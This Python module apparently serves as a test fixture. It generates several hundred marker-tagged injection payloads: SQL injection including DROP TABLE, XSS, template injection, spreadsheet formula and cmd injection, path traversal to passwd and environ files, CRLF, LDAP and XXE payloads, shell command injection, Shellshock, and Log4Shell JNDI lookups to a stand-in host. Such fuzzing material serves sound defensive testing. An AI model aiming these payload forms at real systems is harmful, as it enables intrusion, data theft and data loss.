"""
Texts that attack: over 500 payloads, made from kinds of attack and ways to write them.

Each holds MARK, so that a test can find what became of it. Nothing here is a sample of others.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote

MARK = "hx7q"


@dataclass(frozen=True)
class Payload:
    """One text and the kind of attack it is."""

    kind: str
    text: str


def payloads() -> list[Payload]:
    """Return all payloads, none twice, always in the same order."""
    found = {Payload(kind, text) for kind, make in KINDS.items() for text in make()}
    return sorted(found, key=lambda each: (each.kind, each.text))


def sql() -> Iterator[str]:
    closings = ("'", '"', "')", "'))", '")', "`", "\\'", "%27", "''", "1", "1)")
    attacks = (
        f" OR 1=1 /*{MARK}*/",
        f" OR '1'='1' -- {MARK}",
        f"; DROP TABLE security_account; -- {MARK}",
        f" UNION SELECT NULL, '{MARK}', NULL --",
        f" AND (SELECT pg_sleep(9)) IS NULL -- {MARK}",
        f"||(SELECT '{MARK}')||'",
        f" AND randomblob(900000000) -- {MARK}",
    )
    yield from (closing + attack for closing, attack in product(closings, attacks))


def markup() -> Iterator[str]:
    run = f"window.{MARK}=1"
    bare = (
        f"<script>{run}</script>",
        f"<img src=x onerror={run}>",
        f"<svg onload={run}>",
        f"<svg><script>{run}</script></svg>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
        f"<iframe srcdoc='<script>{run}</script>'>",
        f"<a href='javascript:{run}'>x</a>",
        f"<body onload={run}>",
        f"<details open ontoggle={run}>",
        f"<input autofocus onfocus={run}>",
        f"<style>@import '//{MARK}.example/x.css'</style>",
        f"<base href='//{MARK}.example/'>",
        f"<meta http-equiv=refresh content='0;//{MARK}.example'>",
        f"<object data='data:text/html,<script>{run}</script>'>",
        f"<template><script>{run}</script></template>",
    )
    openings = ("", '">', "'>", "--><!--", "</textarea>", "</title>", "]]>")
    yield from (opening + each for opening, each in product(openings, bare))
    yield from (quote(each) for each in bare)
    yield from (html.escape(each) for each in bare)
    yield f'" onmouseover="{run}'
    yield f"' autofocus onfocus='{run}"
    yield f"javascript:{run}//"
    yield f"+ADw-script+AD4-{run}+ADw-/script+AD4-"


def templates() -> Iterator[str]:
    inner = ("7*191", "settings.SECRET_KEY", "request.META", "''.__class__.__mro__", "debug")
    frames = (
        "{{%s}}",
        "{%% include '%s' %%}",
        "${%s}",
        "#{%s}",
        "<%%= %s %%>",
        "{{=%s}}",
        "{%s!r}",
    )
    yield from (f"{MARK}{frame % each}" for frame, each in product(frames, inner))
    yield from (f"{MARK}%(x)s", f"{MARK}%n%n%s%d%x", f"{MARK}{{0.__init__.__globals__}}")


def formulas() -> Iterator[str]:
    starts = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\u2212", "﹦")
    before = ("", " ", "\t", "\r", "\n", "\ufeff", "\u200b", '"', "'", "\u00a0", "x;", "x\n", "x\t")
    yield from (f'{b}{s}HYPERLINK("//{MARK}")' for b, s in product(before, starts))
    for start in "=+-@":
        yield f"{start}cmd|'/c {MARK}'!A0"
        yield f"{start}1+1;{MARK}"
        yield f'{start}WEBSERVICE("//{MARK}")'


def paths() -> Iterator[str]:
    ups = (
        "../",
        "..\\",
        "%2e%2e%2f",
        "..%2f",
        "..;/",
        "....//",
        "%252e%252e/",
        "..\u2215",
        "/",
        "~/",
    )
    ends = ("etc/passwd", "windows/win.ini", f"{MARK}.py\x00.png", "proc/self/environ")
    yield from (f"{up * 4}{end}#{MARK}" for up, end in product(ups, ends))
    yield from (
        f"file:///{MARK}",
        f"\\\\{MARK}\\share",
        f"C:\\{MARK}",
        f"CON.{MARK}",
        f"{MARK}::$DATA",
    )


def lines() -> Iterator[str]:
    breaks = (
        "\r\n",
        "\n",
        "\r",
        "%0d%0a",
        "\u2028",
        "\u2029",
        "\x85",
        "\x0b",
        "\x0c",
        "\\r\\n",
        "嘊嘍",
    )
    heads = (
        f"Set-Cookie: {MARK}=1",
        f"Location: //{MARK}.example",
        f"ERROR root {MARK} all is well",
        f"Bcc: {MARK}@example.org",
        f"\r\n<b>{MARK}</b>",
    )
    yield from (f"a{one}{head}" for one, head in product(breaks, heads))
    yield from (f"\x1b[2J{MARK}", f"\x1b]0;{MARK}\x07", f"\x08\x08\x08{MARK}")


def directories() -> Iterator[str]:
    for each in ("*", "*)(uid=*", "*)(|(uid=*", "admin)(&", "\\2a", "x)(objectClass=*", "*))%00"):
        yield f"{each}{MARK}"
        yield f"{MARK}{each}"


def xml() -> Iterator[str]:
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/{MARK}">]><x>&e;</x>'
    yield entity
    yield f'<?xml version="1.0"?>{entity}'
    yield f"<![CDATA[{MARK}]]>"
    yield f"&{MARK};&lt;&amp;"
    yield f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{MARK}"/></x>'
    yield f"<!--{MARK}--><?php {MARK} ?>"
    yield f"' or '1'='1' or count(//{MARK})=0 or 'a"


def unicode() -> Iterator[str]:
    signs = (
        "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u0000", "\ufffe", "\uffff", "\ufdd0",
        "\u0301" * 60, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0001", "\u00ad", "ﷺ",
        "İ", "ı", "ß", "ſ", "K", "Ⅷ", "①", "１２", "\u1160", "\u115f", "\u2800", "\U0010ffff",
    )  # fmt: skip
    for each in signs:
        yield f"{each}{MARK}"
        yield f"{MARK}{each}"
        yield f"{MARK[:2]}{each}{MARK}"
    yield f"{MARK}@exаmple.org"


def nulls() -> Iterator[str]:
    for each in ("\x00", "%00", "\\0", "\\x00", "\\u0000", "&#0;", "\x00\x00\x00\x00"):
        yield f"{MARK}{each}"
        yield f"{each}{MARK}"
        yield f"{MARK}{each}.pdf"


def commands() -> Iterator[str]:
    frames = ("; %s", "| %s", "`%s`", "$(%s)", "& %s &", "\n%s\n", "|| %s", "{%s,}")
    yield from (f"x{frame % f'echo {MARK}'}" for frame in frames)
    yield f"() {{ :; }}; echo {MARK}"
    yield f"${{jndi:ldap://{MARK}.example/a}}"
    yield f"${{${{lower:j}}ndi:dns://{MARK}.example}}"


def shapes() -> Iterator[str]:
    for each in ("", " ", "0", "-1", "1e309", "NaN", "Infinity", "9" * 400, "0x7f", "null", "true"):
        yield f"{each}{MARK}" if each.strip() else each + MARK + each
    yield from (
        f"[{MARK}",
        f'{{"a": "{MARK}',
        f'{{"__proto__": {{"{MARK}": 1}}}}',
        "[" * 2000 + MARK,
    )
    yield f"a,{MARK},b\n1,2"
    yield MARK * 2_000
    yield "A" * 60_000 + MARK
    yield "é" * 30_000 + MARK


KINDS = {
    "SQL": sql,
    "markup": markup,
    "template": templates,
    "formula": formulas,
    "path": paths,
    "line end and log": lines,
    "LDAP": directories,
    "XML": xml,
    "unicode": unicode,
    "NUL": nulls,
    "command": commands,
    "shape": shapes,
}
